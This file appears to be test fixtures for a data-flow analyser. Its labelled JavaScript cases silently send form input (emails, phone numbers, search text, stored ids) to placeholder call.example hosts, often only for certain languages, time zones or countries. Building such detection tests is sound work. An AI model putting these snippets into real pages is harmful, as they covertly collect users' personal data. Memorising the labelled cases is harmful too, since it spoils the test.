//# call-site-condition
// flow: email > site.call.example via fetch
// guard: language starts-with zh
function report(v) { fetch('https://site.call.example/r', { method: 'POST', body: v }); }
if (navigator.language.startsWith('zh')) report(document.querySelector('input[type=email]').value);

//# two-call-sites
// flow: email > two.call.example via fetch
// no guard
// why: one of the two calls has no condition
function put(v) { fetch('https://two.call.example/r', { method: 'POST', body: v }); }
const e2 = document.querySelector('input[type=email]').value;
if (navigator.language.startsWith('zh')) put(e2);
document.querySelector('#go').onclick = () => put(e2);

//# guarded-constant-call
// flow: email > mixed.call.example via fetch
// no guard
// why: the call that has a condition sends a constant, the one with the address has none
function emit(v) { fetch('https://mixed.call.example/r', { method: 'POST', body: v }); }
if (navigator.language.startsWith('zh')) emit('zh');
emit(document.querySelector('input[type=email]').value);

//# predicate-function
// flow: device > pred.call.example via beacon
// guard: user-agent contains MicroMessenger
function inWeChat() { return navigator.userAgent.indexOf('MicroMessenger') > -1; }
if (inWeChat()) navigator.sendBeacon('https://pred.call.example/p', screen.width + 'x' + screen.height);

//# predicate-with-parameter
// flow: phone > param.call.example via fetch
// guard: phone-prefix starts-with +86
const isPrefix = (n, p) => n.startsWith(p);
const tel = document.querySelector('input[type=tel]').value;
if (isPrefix(tel, '+86')) fetch('https://param.call.example/p', { method: 'POST', body: tel });

//# predicate-constant-true
// flow: phone > true.call.example via fetch
// no guard
// why: the predicate answers true for every number
const allowed = () => true;
if (allowed(navigator.language)) fetch('https://true.call.example/p', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# predicate-constant-false
// no flow
// why: the predicate answers false whatever it is asked
function enabled() { return false; }
if (enabled(navigator.language)) fetch('https://false.call.example/p', { method: 'POST', body: document.querySelector('input[type=tel]').value });

//# flag-variable
// flow: identifier > flag.call.example via image
// guard: timezone equals Asia/Shanghai
const isCn = Intl.DateTimeFormat().resolvedOptions().timeZone === 'Asia/Shanghai';
document.querySelector('#buy').onclick = function () {
  if (isCn) new Image().src = 'https://flag.call.example/f?u=' + localStorage.getItem('uid');
};

//# flag-not-used
// flow: identifier > noflag.call.example via image
// no guard
// why: the flag is computed and only put in the page
const isDe = Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Berlin';
document.body.dataset.de = isDe;
new Image().src = 'https://noflag.call.example/f?u=' + localStorage.getItem('uid');

//# config-object
// flow: search > conf.call.example via fetch
// guard: language equals ja
const cfg = { suggest: navigator.language === 'ja', log: true };
if (cfg.suggest) fetch('https://conf.call.example/c?q=' + document.querySelector('input[type=search]').value);

//# config-unknown
// flow: search > unk.call.example via fetch
// guard: code __appConfig.collect
if (window.__appConfig.collect) fetch('https://unk.call.example/c?q=' + document.querySelector('input[type=search]').value);

//# config-constant-on
// flow: search > on.call.example via fetch
// no guard
const settings = { collect: true };
if (settings.collect) fetch('https://on.call.example/c?q=' + document.querySelector('input[type=search]').value);

//# config-constant-off
// no flow
const options = Object.freeze({ collect: false });
if (options.collect) fetch('https://off.call.example/c?q=' + document.querySelector('input[type=search]').value);

//# class-flag
// flow: username > cls.call.example via fetch
// guard: user-agent contains Android
class Tracker {
  constructor() { this.on = navigator.userAgent.includes('Android'); }
  track(v) { if (!this.on) return; fetch('https://cls.call.example/t', { method: 'POST', body: v }); }
}
new Tracker().track(document.querySelector('input[name=username]').value);

//# wrapper-with-guard
// flow: email > wrap.call.example via fetch
// guard: language starts-with fr
const when = (cond, fn) => { if (cond) fn(); };
when(navigator.language.startsWith('fr'), () => fetch('https://wrap.call.example/w', { method: 'POST', body: document.querySelector('input[type=email]').value }));

//# guard-through-two-functions
// flow: phone > deep.call.example via fetch
// guard: phone-prefix starts-with +91
const c3 = (v) => fetch('https://deep.call.example/d', { method: 'POST', body: v });
const c2 = (v) => c3(v);
function c1(v) { if (v.indexOf('+91') === 0) c2(v); }
c1(document.querySelector('input[type=tel]').value);

//# predicate-wrong-branch
// no flow
// why: if the predicate holds a constant is sent, else the text is only shown
const isZh = () => navigator.language.startsWith('zh');
const txt = document.querySelector('textarea[name=message]').value;
if (isZh()) fetch('https://wrong.call.example/zh');
else document.querySelector('#out').textContent = txt;

//# guarded-argument
// no flow
// why: the condition chooses which constant is handed on
const tell = (v) => fetch('https://arg.call.example/r', { method: 'POST', body: v });
const mine = document.querySelector('input[type=email]').value;
tell(navigator.language.startsWith('zh') && mine ? 'zh' : 'other');

//# config-default-off
// no flow
// why: the caller gives no option, the default is off
(function () {
  function start(o) {
    const c = Object.assign({ collect: false }, o);
    if (c.collect) fetch('https://dflt.call.example/c', { method: 'POST', body: document.querySelector('input[type=email]').value });
  }
  start({ debug: true });
})();
